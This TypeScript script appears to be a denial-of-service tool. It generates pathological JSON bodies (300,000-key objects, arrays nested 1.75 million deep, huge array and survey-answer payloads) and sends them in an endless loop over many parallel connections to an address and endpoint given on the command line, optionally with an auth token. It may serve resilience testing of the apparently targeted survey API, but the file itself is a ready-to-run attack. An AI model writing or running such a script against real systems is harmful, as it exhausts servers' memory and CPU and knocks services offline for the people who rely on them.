import { setTimeout as pause } from 'node:timers/promises'
import { v7 as newId } from 'uuid'

export interface HostileCall {
  readonly method: string
  readonly path: string
  readonly body: keyof typeof bodies
  readonly token?: string
}

const bodies = {
  names: () => JSON.stringify(Object.fromEntries(Array.from({ length: 300_000 }, (_, at) => [`k${at}`, 1]))),
  objects: () =>
    `[${Array.from({ length: 3_000 }, (_, n) => JSON.stringify(Object.fromEntries(Array.from({ length: 100 }, (_, at) => [`k${n * 100 + at}`, 1])))).join()}]`,
  nested: () => '['.repeat(1_750_000) + ']'.repeat(1_750_000),
  values: () => `[${'{"a":1},'.repeat(249_000)}1]`,
  /** Valid by the contract, for a survey that does not exist. */
  answers: () => {
    const details = Array.from({ length: 5_000 }, () => ({ id: newId(), field_value: 'x'.repeat(1_350) }))
    const parts = [{ id: newId(), user_survey_sub_section_details_attributes: details }]
    const sections = [{ id: newId(), user_survey_sub_sections_attributes: parts }]
    return JSON.stringify({ user_survey_id: newId(), user_survey_sections_attributes: sections })
  },
} as const

/** Milliseconds between two requests of a connection. */
const every = 2_000

interface Given {
  readonly address: string
  readonly call: HostileCall
  readonly connections: number
}

const [given = '{}'] = process.argv.slice(2)
const { address, call, connections }: Given = JSON.parse(given)
// Encoded once: encoding megabytes would cost the sender more than the server.
const body = Buffer.from(bodies[call.body]())
const headers = { 'content-type': 'application/json', ...(call.token ? { token: call.token } : {}) }

async function sendWithoutEnd(first: number): Promise<void> {
  await pause(first)
  for (;;) {
    // A connection that breaks also counts as an answer.
    await fetch(`${address}${call.path}`, { method: call.method, headers, body })
      .then((answer) => answer.arrayBuffer())
      .catch(() => undefined)
    await pause(every)
  }
}

console.log('ready')
await Promise.all(Array.from({ length: connections }, (_, at) => sendWithoutEnd((at * every) / connections)))
